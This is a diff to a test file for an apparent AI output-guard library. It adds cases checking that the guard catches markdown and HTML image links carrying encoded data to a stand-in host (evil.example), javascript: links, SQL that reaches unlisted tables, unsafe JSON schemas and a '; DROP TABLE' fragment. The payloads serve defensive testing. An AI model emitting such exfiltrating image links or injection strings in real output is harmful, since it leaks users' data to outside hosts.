@@ -105,6 +105,7 @@ def test_profanities_are_whole_words_and_the_list_can_be_changed() -> None:
     assert [segment.text[f.start : f.end] for f in findings] == ["sh1t", "f.u.c.k", "f u c k"]
 
 
+DATA = "c2VjcmV0IGRhdGEgdGhhdCBub2JvZHkgc2hvdWxkIHNlZSBhdCBhbGw"
 HARMFUL = [
     ("SCRIPT_LINK", "[click](javascript:alert(1", "javascript:alert(1"),
     ("SCRIPT_LINK", '<a href = "JaVa\nScript:x()">', "JaVa\nScript:x()"),
@@ -121,6 +122,29 @@ HARMFUL = [
     ("IMAGE_LINK", '<img alt="" src="https://evil.example/p.png?d=1">', "https://evil.example/p.png?d=1"),
     ("IMAGE_LINK", "![x][1]\n\n[1]: https://evil.example/?q=1", "https://evil.example/?q=1"),
     ("IMAGE_LINK", "url('https://evil.example/?x')", "https://evil.example/?x"),
+    # What browsers and Markdown take for a part of the address, too.
+    *(
+        ("IMAGE_LINK", f"![x](https://evil.example/{before}{DATA})", f"https://evil.example/{before}{DATA}")
+        for before in ("|", "a<", "(b)", "((b)c)", "'", "{", "d/" * 60)
+    ),
+    ("IMAGE_LINK", f"![x](<https://evil.example/a {DATA}>)", f"https://evil.example/a {DATA}"),
+    ("IMAGE_LINK", f"<img src='https://evil.example/a {DATA}'>", f"https://evil.example/a {DATA}"),
+    (
+        "IMAGE_LINK",
+        "<img srcset='/a.png 1x, https://evil.example/?q 2x'>",
+        "/a.png 1x, https://evil.example/?q 2x",
+    ),
+    ("IMAGE_LINK", "![x](http:evil.example/?q=1)", "http:evil.example/?q=1"),
+    # What a reversible redaction is put back into.
+    *(
+        ("IMAGE_LINK", text.format("https://evil.example/<EMAIL_1>"), f"https://evil.example/<EMAIL_1{end}")
+        for text, end in (("![x]({})", ">"), ("![x](<{}>)", ""), ("<img src='{}'>", ">"), ("url({})", ">"))
+    ),
+    # And what they take for an image's description.
+    *(
+        ("IMAGE_LINK", f"![{alt}](https://evil.example/?q=1)", "https://evil.example/?q=1")
+        for alt in ("a [b] c", "a [b [c]](d) e", "a\nb", "a\\]b", "a" * 1_000)
+    ),
 ]
 HARMLESS = [
     "JavaScript: the good parts. Use data: URIs with care, and javascript:void(0) never.",
@@ -128,6 +152,9 @@ HARMLESS = [
     "![dot](data:image/png;base64,iVBORw0KGgo=) <img src='/static/a.png?v=3'>",
     "<b>once=1</b> <a href='/on'>on=1</a> a <div b, img.onload = f; <Button onclick={f}>",
     "if a[1]: data = b; src = data[0] < 3 and c > d; href = 'https://example.com/?a=1'",
+    "[![build](https://ci.example.com/a_(b)/main.svg)](https://ci.example.com/?branch=main#now)",
+    'He set src="https://cdn.example.com/x.js and forgot to close it, so what follows is no address at all.',
+    '<img srcset="https://img.example.org/a?w=1 1x, https://img.example.org/a?w=2 2x">',
     "![shot](https://img.example.org/x.svg?style=flat) <img src=https://cdn.img.example.net/a?v=1>",
 ]
 
@@ -240,6 +267,9 @@ def test_json_may_stand_in_a_fence_and_other_roles_are_left_alone() -> None:
 def test_schemas_that_cannot_be_followed_safely_are_refused() -> None:
     refused("no JSON schema", "json_schema", json_schema={"type": "thing"})
     refused("within the schema", "json_schema", json_schema={"$ref": "http://127.0.0.1:1/schema.json"})
+    refused("not in the schema", "json_schema", json_schema={"$ref": "#/$defs/nobody"})
+    recursive = {"$defs": {"a": {"items": {"$ref": "#/$defs/a"}}}, "$ref": "#/$defs/a"}
+    assert found(engine("json_schema", json_schema=recursive), "[[]]") == []
     refused("patternProperties", "json_schema", json_schema={"patternProperties": {"(a+)+$": {}}})
     refused("action", "json_schema", action="redact")
 
@@ -277,6 +307,33 @@ def test_sql_names_only_listed_tables_and_further_statements_can_be_allowed() ->
     refused("statements", "sql", statements=["DROP"])
 
 
+@pytest.mark.parametrize(
+    "sql",
+    [
+        # Within itself, before it, outside its query and as a target, the name is the real table's.
+        "WITH users AS (SELECT * FROM users) SELECT * FROM users",
+        "WITH a AS (SELECT * FROM users), users AS (SELECT 1) SELECT * FROM a",
+        "SELECT * FROM users WHERE 1 IN (WITH users AS (SELECT 1) SELECT 1)",
+        "WITH users AS (SELECT 1) DELETE FROM users",
+        "WITH users AS (SELECT 1) INSERT INTO users (a) SELECT 1",
+    ],
+)
+def test_a_with_hides_no_table_behind_its_name(sql: str) -> None:
+    wanted = {"statements": ["SELECT", "INSERT", "DELETE"], "where": "text"}
+    assert [label for label, _ in found(engine("sql", tables=["orders"], **wanted), sql)] == ["SQL_TABLE"]
+    assert found(engine("sql", tables=["users"], **wanted), sql) == []
+
+
+def test_a_with_may_be_read_where_it_is_defined() -> None:
+    judge = engine("sql", where="text", tables=["orders"], statements=["SELECT", "DELETE"])
+    for sql in (
+        "WITH o AS (SELECT * FROM orders), p AS (SELECT * FROM o) SELECT * FROM (SELECT * FROM p) x, o",
+        "WITH RECURSIVE o AS (SELECT id FROM orders UNION ALL SELECT id FROM o) SELECT * FROM o",
+        "WITH o AS (SELECT id FROM orders) DELETE FROM orders WHERE id IN (SELECT id FROM o)",
+    ):
+        assert found(judge, sql) == []
+
+
 @cache
 def stream_engine(kind: str) -> GuardEngine:
     """A guard of that kind that redacts where it may."""
@@ -286,11 +343,12 @@ def stream_engine(kind: str) -> GuardEngine:
         "topics": {"topics": {"t": ["java", "acme cloud", "code word"]}, "action": "block"},
         "profanity": {"more": ["java"]},
         "web": {"checks": ["script", "any_image", "link"], "allowed_hosts": ["ok.example"]},
+        "images": {"checks": ["image"], "allowed_hosts": ["ok.example"]},
         "system_prompt_leak": {"words": 4, "action": "redact"},
         "json_schema": {"action": "block"},
         "sql": {"where": "text", "action": "flag"},
     }
-    return engine(kind, **more[kind])
+    return engine("web" if kind == "images" else kind, **more[kind])
 
 
 PARTS = st.sampled_from(
@@ -318,6 +376,7 @@ PARTS = st.sampled_from(
             "manager, Ms",
             " and be kind",
         ),
+        *("![[a]", "\\", "srcset=", "(", "[b", "http:x", "/" * 200, "](<"),
         *("{}", '{"a": 1}', "SELECT 1", "; DROP TABLE t", "é", "\u200b", "\uff34-12"),
     ]
 )
@@ -325,7 +384,10 @@ PARTS = st.sampled_from(
 
 @pytest.mark.parametrize(
     "kind",
-    ["regex", "competitors", "topics", "profanity", "web", "system_prompt_leak", "json_schema", "sql"],
+    [
+        *("regex", "competitors", "topics", "profanity", "web", "images", "system_prompt_leak"),
+        *("json_schema", "sql"),
+    ],
 )
 @settings(max_examples=80, deadline=None)
 @given(text=st.lists(PARTS, max_size=14).map("".join), how=cuts)
@@ -333,13 +395,15 @@ def test_any_cut_gives_the_verdict_of_the_complete_text(kind: str, text: str, ho
     asyncio.run(same(stream_engine(kind), text, pieces(text, how), context=CONTEXT))
 
 
-@pytest.mark.parametrize("unit", ["<img ", "](", "![a", "src=", "java\t", "on=", "a ", "f-u-c-k ", "//a?"])
+@pytest.mark.parametrize(
+    "unit", ["<img ", "](", "![a", "src=", "java\t", "on=", "a ", "f-u-c-k ", "//a?", "![[a]"]
+)
 @pytest.mark.timeout(120)
 def test_no_text_takes_quadratic_time(unit: str) -> None:
     """A hostile text that makes a guard quadratic takes minutes at this length, else a moment."""
     text = unit * (100_000 // len(unit))
     context = GuardContext(system_text=unit * 2_000)
-    for kind in ("competitors", "topics", "profanity", "web", "system_prompt_leak"):
+    for kind in ("competitors", "topics", "profanity", "web", "images", "system_prompt_leak"):
         asyncio.run(
             stream_engine(kind).check(
                 Segment(text=text, direction=Direction.OUTPUT, role="assistant"), context
